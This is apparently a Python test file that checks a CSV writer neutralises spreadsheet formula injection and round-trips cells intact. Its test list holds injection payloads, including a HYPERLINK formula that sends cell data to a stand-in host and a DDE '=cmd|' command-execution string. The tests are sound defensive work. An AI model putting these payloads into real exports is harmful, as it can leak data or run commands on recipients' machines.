"""A table that no spreadsheet runs, and that reads back exactly as it was written."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from stakes.campaign.spreadsheet import SpreadsheetError, guarded, read, unguarded, write

SIGNS = "=+-@\t\r\n＝＋－＠|%"
FORMULAS = [
    '=HYPERLINK("http://example.invalid?"&A1,"x")',
    "+1",
    "-5",
    "+44 20 7946 0000",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "'=1",
    "''=1",
    "-",
    "=cmd|' /C calc'!A0",
    '";=1;"',
    "a,=1",
    "a\n=1",
    "\ufeff=1",
    "＝1",
]
cells = st.one_of(st.sampled_from(FORMULAS), st.text(st.sampled_from(SIGNS + "'\" ;,a1\ufeff"), max_size=6), st.text(max_size=20))
rows = st.lists(st.lists(cells.filter(lambda cell: "\x00" not in cell), min_size=1, max_size=5), max_size=5)


@given(cells)
def test_a_guarded_cell_is_run_by_nothing_and_comes_back(cell):
    made = guarded(cell)
    assert made.lstrip("\ufeff \t")[:1] not in set("=+-@＝＋－＠")
    assert made[:1] not in set(SIGNS)
    assert unguarded(made) == cell


@given(rows)
def test_it_reads_back_as_written(table):
    # A row without any word is no row.
    assert [list(row.cells) for row in read(write(table))] == [row for row in table if any(map(str.strip, row))]


@given(rows)
def test_any_reader_of_csv_finds_as_many_cells_and_no_formula(table):
    text = write(table)
    assert text.startswith("\ufeff")
    found = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert [len(row) for row in found] == [len(row) for row in table]
    for cell in (cell for row in found for cell in row):
        assert cell.lstrip("\ufeff \t\r\n")[:1] not in set("=+-@＝＋－＠")


def test_harmless_cells_are_written_as_they_are():
    for cell in ("", "bread", "it's", "'tis", "a=b", "1-2", "2027-03-31"):
        assert guarded(cell) == cell


def test_semicolons_part_cells_where_a_spreadsheet_wrote_them_so():
    assert [row.cells for row in read("what;due\nBread;2027-03-31\n")] == [("what", "due"), ("Bread", "2027-03-31")]
    assert [row.line for row in read('what\n\n"two\nlines"\n')] == [1, 4]


def test_what_is_no_table_is_refused_with_its_line():
    with pytest.raises(SpreadsheetError, match="Line 2"):
        read('what\n"open')
